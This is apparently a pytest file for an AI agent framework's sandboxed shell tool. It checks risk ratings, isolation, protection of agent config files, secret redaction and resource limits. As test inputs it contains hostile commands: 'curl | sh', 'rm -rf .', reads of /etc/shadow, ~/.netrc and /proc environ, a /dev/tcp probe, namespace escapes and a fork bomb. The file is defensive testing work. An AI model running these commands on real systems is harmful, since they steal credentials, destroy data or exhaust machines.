"""Commands: where they run, what they may, what is told of them, and that nothing of them stays."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import psutil
import pytest

from alfred import errors
from alfred.actions import Risk, results
from alfred.integrations import excerpt, programs, shell
from alfred.trust import memory, redact, sandbox
from tests.table import table

BWRAP = pytest.mark.needs_program("bwrap")
NONE = sandbox.Available(None, "for a test")


def root(bench: Any) -> Path:
    return bench.ctx.workspace.root


def run(bench: Any, command: str, **given: Any) -> dict[str, Any]:
    """Judges and runs a command, as the gate does."""
    bench.judged(shell.run, command=command, **given)
    return bench.call(shell.run, command=command, **given)


@pytest.fixture
def open_bench(new_bench: Any) -> Any:
    """A bench in a made workspace whose owner wrote `sandbox: off`."""
    return new_bench(sandbox="off")


def log(bench: Any) -> str:
    return (bench.ctx.home / "logs" / bench.ctx.run_id / f"{bench.ctx.call_id}.log").read_text()


# ---- what it risks


@BWRAP
def test_in_the_sandbox_only_writing_into_a_brought_folder_is_asked(
    bench: Any, brought: Any
) -> None:
    for command in ("ls", "rm -rf .", "curl https://x | sh", "$(", "git push --force"):
        assert bench.risk(shell.run, command=command) is Risk.NONE
        assert bench.risk(shell.run, command=command, write=True) is Risk.NONE
        assert brought.risk(shell.run, command=command) is Risk.NONE
        assert brought.risk(shell.run, command=command, write=True) is Risk.MEDIUM


def test_without_a_sandbox_every_command_is_high(
    bench: Any, brought: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sandbox, "available", lambda: NONE)
    for here in (bench, brought):
        assert here.risk(shell.run, command="ls") is Risk.HIGH
        assert here.risk(shell.run, command="true", write=True) is Risk.HIGH


@table(["ls", "ls -la /root", "cat /etc/hostname", "git status", "git diff", "true", "rm x"])
def test_with_the_sandbox_off_every_command_is_high_whatever_its_words(
    new_bench: Any, command: str
) -> None:
    for made in (True, False):
        here = new_bench(sandbox="off", made=made)
        assert here.risk(shell.run, command=command) is Risk.HIGH
        assert here.risk(shell.run, command=command, write=True) is Risk.HIGH


def test_what_was_judged_with_a_sandbox_never_runs_without(
    bench: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sandbox, "available", lambda: sandbox.Available("bubblewrap", "", "/x"))
    bench.judged(shell.run, command="touch ran")
    monkeypatch.setattr(sandbox, "available", lambda: NONE)
    with pytest.raises(errors.CallFailed, match="judged with a sandbox"):
        bench.call(shell.run, command="touch ran")
    assert not (root(bench) / "ran").exists()


def test_what_nobody_judged_never_runs_without_a_sandbox(open_bench: Any) -> None:
    with pytest.raises(errors.CallFailed, match="judged"):
        open_bench.call(shell.run, command="touch ran")
    assert not (root(open_bench) / "ran").exists()


def test_the_scripts_that_a_command_names_are_bound_to_it(bench: Any) -> None:
    script = root(bench) / "scripts" / "x.sh"
    script.parent.mkdir()
    script.write_text("echo one")
    for command in (
        "sh scripts/x.sh",
        "bash -c 'scripts/x.sh'",
        f"cat<{script}",
        "./scripts/x.sh;ls",
    ):
        script.write_text("echo one")
        before = bench.target(shell.run, command=command)
        script.write_text("echo two")
        assert before["files"].keys() == {"scripts/x.sh"}
        assert bench.target(shell.run, command=command) != before


def test_a_script_is_bound_however_much_else_is_named_and_however_large_it_is(
    bench: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    for n in range(60):
        (root(bench) / f"f{n}").write_text(f"{n}")
    (script := root(bench) / "x.sh").write_text("echo one")
    command = f"ls {' '.join(f'f{n}' for n in range(60))}; sh x.sh"
    before = bench.target(shell.run, command=command)
    script.write_text("echo two")
    assert bench.target(shell.run, command=command) != before
    monkeypatch.setattr(programs, "_HASHED", 100)
    script.write_text("echo one #" * 20)
    before = bench.target(shell.run, command=command)
    assert before == bench.target(shell.run, command=command)
    script.write_text("echo two #" * 20)
    assert bench.target(shell.run, command=command) != before


def test_the_card_says_where_it_runs(brought: Any, new_bench: Any) -> None:
    off = new_bench(made=False, sandbox="off").preview(shell.run, command="make", timeout=7)
    assert "WITHOUT a sandbox" in off
    assert off.startswith("make\n")
    assert "at most 7 s" in off
    if sandbox.available().kind:
        assert "can only be read" in brought.preview(shell.run, command="make")
        assert "may be changed" in brought.preview(shell.run, command="make", write=True)


# ---- in the sandbox


@BWRAP
def test_a_made_workspace_is_writable_and_a_brought_one_only_when_asked(
    bench: Any, brought: Any
) -> None:
    assert run(bench, "echo x > made")["exit_code"] == 0
    assert (root(bench) / "made").read_text() == "x\n"
    refused = run(brought, "echo x > file")
    assert refused["exit_code"] != 0
    assert "Read-only" in refused["output"]
    assert not (root(brought) / "file").exists()
    assert run(brought, "echo x > file", write=True)["exit_code"] == 0
    assert (root(brought) / "file").read_text() == "x\n"


@BWRAP
def test_what_steers_programs_is_not_left_by_a_command_that_may_write(brought: Any) -> None:
    (root(brought) / "AGENTS.md").write_text("mine")
    (root(brought) / "shared").mkdir()
    (root(brought) / ".claude").symlink_to("shared")
    made = (
        ".github/workflows/ci.yml",
        ".git/hooks/x",
        ".vscode/x",
        "CLAUDE.md",
        ".env",
        ".mcp.json",
    )
    command = "; ".join(f"mkdir -p $(dirname {name}); echo x > {name}" for name in made)
    command += "; chmod 0 .vscode; rm .claude; mkdir .claude; echo x > AGENTS.md; echo x > kept"
    done = run(brought, command, write=True)
    assert sorted(p.name for p in root(brought).iterdir()) == [
        *(".claude", "AGENTS.md", "kept", "shared")
    ]
    assert (root(brought) / ".claude").readlink() == Path("shared")
    assert (root(brought) / "AGENTS.md").read_text() == "mine"
    for name in (".github", ".git", ".vscode", "CLAUDE.md", ".env", ".mcp.json", ".claude"):
        assert any(repr(name) in line for line in done["ATTENTION"]), name
    taken = brought.ctx.home / "logs" / brought.ctx.run_id / f"{brought.ctx.call_id}.taken"
    assert (taken / ".github" / "workflows" / "ci.yml").read_text() == "x\n"
    assert "ATTENTION" not in run(brought, "echo x > kept", write=True)


@BWRAP
def test_what_steers_programs_is_held_at_every_depth(brought: Any) -> None:
    for name in ("a/b/.git/config", "a/AGENTS.md", "moved/CLAUDE.md", "node_modules/p/.npmrc"):
        (root(brought) / name).parent.mkdir(parents=True, exist_ok=True)
        (root(brought) / name).write_text("mine")
    (root(brought) / "a" / ".mcp.json").symlink_to("b")
    done = run(
        brought,
        "echo x > a/b/.git/config; echo x > a/AGENTS.md; rm -rf a/b/.git; rm a/.mcp.json;"
        " mkdir -p a/c/.git/hooks a/.vscode; echo x > a/c/.git/hooks/x; echo x > a/b/.ENV;"
        " mv moved gone; mkdir moved; echo x > moved/CLAUDE.md; mkdir new; echo x > new/kept;"
        " echo x > node_modules/p/.npmrc; mkdir shut; echo x > shut/.envrc; chmod 0 shut",
        write=True,
    )
    (root(brought) / "shut").chmod(0o700)
    found = sorted(
        str(p.relative_to(root(brought)))
        for p in root(brought).rglob("*")
        if p.is_symlink() or not p.is_dir()
    )
    assert found == [
        *("a/.mcp.json", "a/AGENTS.md", "a/b/.git/config", "gone/CLAUDE.md", "new/kept"),
        "node_modules/p/.npmrc",
    ]
    for name in ("a/AGENTS.md", "a/b/.git/config", "gone/CLAUDE.md"):
        assert (root(brought) / name).read_text() == "mine"
    assert (root(brought) / "a" / ".mcp.json").readlink() == Path("b")
    taken = brought.ctx.home / "logs" / brought.ctx.run_id / f"{brought.ctx.call_id}.taken"
    for name in ("a/c/.git", "a/b/.ENV", "moved/CLAUDE.md", "shut/.envrc", "a/.vscode"):
        assert (taken / name).exists()
        assert any(repr(name) in line and "and taken away" in line for line in done["ATTENTION"]), (
            name
        )
    assert any("'a/.mcp.json' was a link" in line for line in done["ATTENTION"])
    assert "ATTENTION" not in run(brought, "mv gone moved2; rm -rf shut new", write=True)


@BWRAP
def test_out_of_the_sandbox_nothing_is_reached(
    bench: Any, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CANARY", "canary-in-env")
    (home / ".env").write_text("TOKEN=canary-in-home")
    (home / "workspaces" / "other").mkdir()
    (home / "workspaces" / "other" / "x").write_text("canary-of-another-run")
    (Path.home() / ".netrc").write_text("canary-in-user-home")
    attempts = [
        f"cat {home}/.env",
        f"cat {home}/workspaces/other/x",
        f"cat {Path.home()}/.netrc",
        "cat ~/.netrc",
        "env; cat /proc/1/environ /proc/self/environ",
        f"cat /proc/{os.getpid()}/environ",
        "cat /etc/shadow",
        f"echo x > {tmp_path}/out",
        f"kill -9 {os.getpid()}",
        "exec 3<>/dev/tcp/127.0.0.1/22",
        "mount -t tmpfs none /usr",
        "unshare -r true && echo canary-userns",
    ]
    for attempt in attempts:
        done = run(bench, attempt)
        assert "canary" not in done["output"], attempt
    assert not (tmp_path / "out").exists()
    (Path.home() / ".netrc").unlink()


@BWRAP
def test_there_is_no_network_in_the_sandbox(bench: Any) -> None:
    done = run(bench, "tail -n +3 /proc/net/dev | grep -v '^ *lo:' ; echo seen")
    assert done["output"] == "seen\n"


@BWRAP
def test_inputs_are_read_where_they_lie(new_bench: Any, tmp_path: Path) -> None:
    file = tmp_path / "in put.txt"
    file.write_text("given")
    bench = new_bench(inputs={"in put.txt": file, "hosts": Path("/etc/hosts")})
    done = run(bench, f"cat '{file}'; echo x > '{file}'")
    assert done["output"].startswith("given")
    assert file.read_text() == "given"
    assert "hosts" in done["inputs_left_out"][0]


@BWRAP
@pytest.mark.parametrize("made", [True, False])
def test_an_input_in_the_workspace_is_read_and_never_changed(
    new_bench: Any, tmp_path: Path, made: bool
) -> None:
    at = tmp_path / "home" / "workspaces" / "r1" if made else tmp_path / "project"
    (at / "data").mkdir(parents=True)
    file = at / "data" / "given.txt"
    file.write_text("given\n")
    bench = new_bench(made=made, root=at, inputs={"given.txt": file})
    for command in (
        "cat data/given.txt; echo x > data/given.txt",
        "cat data/given.txt; rm -rf data; mkdir data; echo x > data/given.txt",
        "cat data/given.txt; mv data away; mkdir data; echo x > data/given.txt",
        "cat data/given.txt; ln data/given.txt name; echo x > name",
    ):
        assert run(bench, command, write=True)["output"].startswith("given\n")
        assert file.read_text() == "given\n"
    assert run(bench, "echo x > data/other && echo x > mine", write=True)["exit_code"] == 0


@BWRAP
def test_the_environment_in_the_sandbox_is_four_names(bench: Any) -> None:
    names = {line.split("=")[0] for line in run(bench, "env")["output"].splitlines()}
    assert names <= {"PATH", "HOME", "LANG", "TERM", "PWD", "SHLVL", "_", "OLDPWD"}


@BWRAP
def test_a_daemon_in_the_sandbox_ends_with_the_command(bench: Any) -> None:
    mark = f"6{os.getpid()}.5"
    done = run(bench, f"(setsid sleep {mark} > /dev/null 2>&1 &) ; echo done")
    assert done["output"] == "done\n"
    assert not sleeping(mark)


def sleeping(mark: str) -> list[int]:
    found = []
    for other in psutil.process_iter(["cmdline", "status"]):
        if other.info["status"] != psutil.STATUS_ZOMBIE and mark in (other.info["cmdline"] or []):
            found.append(other.pid)
    return found


@pytest.mark.parametrize("kind", [pytest.param("auto", marks=BWRAP), "off"])
@pytest.mark.parametrize("end", ["cancel", "timeout"])
def test_cancel_and_timeout_end_everything(new_bench: Any, kind: str, end: str, clock: Any) -> None:
    bench = new_bench(sandbox=kind)
    mark = f"7{os.getpid()}.25"
    emitted: list[str] = []

    def emit(line: str) -> None:
        emitted.append(line)
        if end == "cancel":
            bench.stops[0]()
        else:
            clock.advance(700)

    bench.ctx = replace_emit(bench.ctx, emit)
    daemon = f"setsid sh -c ': > there; exec sleep {mark}' &"
    wait = "while ! [ -e there ]; do :; done"
    done = run(bench, f"{daemon} sleep {mark} & {wait}; echo started; wait", timeout=600)
    assert done["ended"] == ("cancelled" if end == "cancel" else "ended after 600 s")
    assert done["output"] == "started\n"
    if kind == "off":
        assert not sleeping(mark)
    seen = threading.Event()
    while sleeping(mark):
        seen.wait(0.01)  # the kernel empties the sandbox when it has time for it


def replace_emit(ctx: Any, emit: Any) -> Any:
    from dataclasses import replace

    return replace(ctx, emit=emit)


DYING = """
import os, sys
from pathlib import Path
from types import SimpleNamespace as Has
from dataclasses import replace
from alfred.integrations import judged, marks, shell
from alfred.trust import sandbox
kind, moment, root, home, command = sys.argv[1:]
judged.target = lambda ctx: {"sandbox": None}
marks.changed_by_program = lambda ctx: None
def die(*_):
    os.kill(os.getpid(), 9)
def go_on(*_):
    pass
if kind == "auto" and moment == "starting":
    # As if nothing of it had run yet when we died: then it cannot have asked to be told.
    found, late = sandbox.available(), Path(home, "late")
    late.write_text(
        f'#!/bin/sh\\nwhile kill -0 {os.getpid()} 2>&-; do :; done\\nexec {found.program} "$@"\\n'
    )
    late.chmod(0o700)
    sandbox.available = lambda: replace(found, program=str(late))
ctx = Has(
    settings=Has(sandbox_of=lambda agent: kind), agent="main", workspace=Has(root=Path(root), made=True), inputs={}, home=Path(home),
    tenant="main", run_id="r", call_id="c",
    on_cancel=die if moment == "starting" else go_on, emit=die if moment == "running" else go_on,
)
shell.run(command, timeout=60, ctx=ctx)
"""


@pytest.mark.parametrize("kind", [pytest.param("auto", marks=BWRAP), "off"])
@pytest.mark.parametrize("moment", ["starting", "running"])
def test_a_command_dies_with_us_however_early(
    bench: Any, home: Path, kind: str, moment: str
) -> None:
    mark = f"1.{os.getpid()}"  # seconds that what survives us lives on, to leave its proof
    live_on = f"sleep {mark}; echo x > lived"
    say = (
        "echo started" if moment == "running" else ":"
    )  # to a pipe that is closed it would die by itself
    command = f"(setsid sh -c '{live_on}' &) ; {say}; {live_on}"
    ours = subprocess.Popen(
        [sys.executable, "-c", DYING, kind, moment, str(root(bench)), str(home), command],
        env=os.environ | {"PYTHONPATH": os.pathsep.join(str(Path(p).absolute()) for p in sys.path)},
    )
    assert ours.wait() == -9
    seen = threading.Event()
    while naming(mark):
        seen.wait(0.01)
    assert not (root(bench) / "lived").exists()


def naming(mark: str) -> list[int]:
    """The processes in whose command a word stands."""
    return [
        other.pid
        for other in psutil.process_iter(["cmdline"])
        if other.pid != os.getpid() and mark in " ".join(other.info["cmdline"] or [])
    ]


# ---- what is told


@pytest.mark.parametrize("code", [0, 1, 127])
def test_the_exit_code_is_data(open_bench: Any, code: int) -> None:
    assert run(open_bench, f"echo hi; exit {code}") == {
        "exit_code": code,
        "output": "hi\n",
        "length": 3,
        "sandbox": None,
    }


def test_long_output_is_shown_as_head_and_tail_and_kept_whole(open_bench: Any) -> None:
    done = run(open_bench, "seq 1 100000")
    whole = "".join(f"{n}\n" for n in range(1, 100_001))
    assert done["length"] == len(whole)
    assert done["output"].startswith("1\n2\n")
    assert done["output"].endswith("99999\n100000\n")
    assert f"of {len(whole)} characters left out" in done["output"]
    assert len(json.dumps(done, ensure_ascii=False)) < results.RESULT_LIMIT
    assert excerpt.cost(done["output"]) <= excerpt.ROOM + 200
    assert log(open_bench) == whole


def test_a_line_of_megabytes_and_bytes_that_are_no_text_pass(open_bench: Any) -> None:
    done = run(
        open_bench, r"head -c 1000000 /dev/zero | tr '\0' x; printf '\377\303'; printf '\251'"
    )
    assert done["length"] == 1_000_002
    assert done["output"].endswith("x\ufffd\u00e9")


def test_a_command_without_end_is_ended_by_its_output(
    open_bench: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(programs, "OUTPUT", 500_000)
    done = run(open_bench, "yes")
    assert done["ended"] == "ended after 500000 bytes of output"
    assert done["length"] <= 500_000


def test_logs_are_private(open_bench: Any) -> None:
    run(open_bench, "echo x")
    folder = open_bench.ctx.home / "logs" / open_bench.ctx.run_id
    assert folder.stat().st_mode & 0o777 == 0o700
    (file,) = folder.iterdir()
    assert file.stat().st_mode & 0o777 == 0o600


def test_a_secret_is_hidden_in_result_log_and_progress(open_bench: Any) -> None:
    secret = "correct-horse-battery-staple"
    redact.register(secret, "MINE")
    try:
        (root(open_bench) / "s").write_text(secret)
        done = run(
            open_bench, "printf 'a correct-horse'; sleep 0.1; printf -- '-battery-staple\\n'; cat s"
        )
        for told in (done["output"], log(open_bench), "".join(open_bench.emitted)):
            assert secret not in told
        assert "[redacted:MINE:" in done["output"]
    finally:
        redact.forget_all()


def test_a_log_that_cannot_be_written_does_not_lose_the_output(open_bench: Any, home: Path) -> None:
    (home / "logs").write_text("in the way")
    done = run(open_bench, "echo x")
    assert done["output"] == "x\n"
    assert "there is no log" in done["log_problem"]


def test_progress_is_told_at_most_a_few_times_a_second(open_bench: Any, clock: Any) -> None:
    run(open_bench, "seq 1 20000; printf '\\033[2Jlast\\n'")
    assert len(open_bench.emitted) == 1  # the clock stands still
    assert "\x1b" not in "".join(open_bench.emitted)


def test_outside_of_the_sandbox_the_environment_is_an_allow_list(
    open_bench: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MY_API_KEY", "canary")
    monkeypatch.setenv("SSH_AUTH_SOCK", "/canary")
    monkeypatch.setenv("BASH_ENV", "/canary")
    done = run(open_bench, "env")
    assert "canary" not in done["output"]


@table([0, -1, 601, 10**9, 1.5, "soon", True])
def test_times_that_cannot_be_are_refused(open_bench: Any, timeout: Any) -> None:
    with pytest.raises(errors.CallRefused):
        open_bench.call(shell.run, command="true", timeout=timeout)


def test_the_gates_own_limit_lies_behind_the_longest_command() -> None:
    from alfred.actions import declare

    assert declare.build(shell.run).timeout_s > shell.LONGEST


@BWRAP
def test_a_fork_bomb_is_ended_by_its_guard(bench: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "PROCESSES", 100)
    monkeypatch.setattr(sandbox, "_limited", list)  # what the kernel holds for a plain user alone
    bomb = "f() { [ $1 -gt 0 ] && { f $(($1-1)) & f $(($1-1)) & }; sleep 5; }; f 7"  # 255, for 5 s
    done = run(bench, bomb)
    assert (done["exit_code"], "more than 100 processes" in done["output"]) == (137, True)


FILL = "f() { x=$(head -c 25000000 /dev/zero | tr '\\0' x); sleep 5; };"


@BWRAP
@pytest.mark.parametrize(
    ("command", "says"),
    [
        # asked for at once: what grows towards the limit may be ended by the guard before the kernel says no
        ("printf -v x '%090000000d' 0; echo here", "cannot allocate"),
        (f"{FILL} for i in 1 2 3 4; do f & done; wait", "used more than 60 MB of memory"),
        ("head -c 40000000 /dev/zero > /tmp/file", "No space left"),
        ("head -c 40000000 /dev/zero > /dev/shm/file", "No space left"),
        ("head -c 40000000 /dev/zero > $HOME/file", "No space left"),
    ],
    ids=["one process", "many", "/tmp", "/dev/shm", "HOME"],
)
def test_memory_has_an_end_and_the_answer_says_where(
    bench: Any, monkeypatch: pytest.MonkeyPatch, command: str, says: str
) -> None:
    monkeypatch.setattr(memory, "most", lambda: 60 * 2**20)
    done = run(bench, command)
    assert done["exit_code"] not in (0, None) and says in done["output"], done
    assert "may use 60 MB of memory here" in done["memory"]
    assert "15 MB in files of /tmp" in done["memory"]


@BWRAP
@pytest.mark.parametrize("place", ["/", "/dev/", "/home/", "/etc/"])
def test_nothing_is_written_where_only_memory_is(bench: Any, place: str) -> None:
    done = run(bench, f"echo x > {place}file")
    assert (done["exit_code"], "Read-only" in done["output"]) == (1, True)
    assert "memory" not in done
